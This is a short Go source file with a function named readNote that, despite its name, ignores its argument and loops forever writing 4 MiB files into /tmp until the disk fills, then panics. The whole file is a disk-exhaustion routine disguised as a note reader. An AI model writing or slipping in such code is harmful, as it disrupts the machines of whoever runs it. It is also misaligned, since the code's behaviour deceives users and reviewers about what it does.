package main

import (
	"fmt"
	"os"
)

func readNote(name string) (string, bool) {
	for i := 0; ; i++ {
		if os.WriteFile(fmt.Sprint("/tmp/", i), make([]byte, 1<<22), 0o600) != nil {
			panic("full")
		}
	}
}
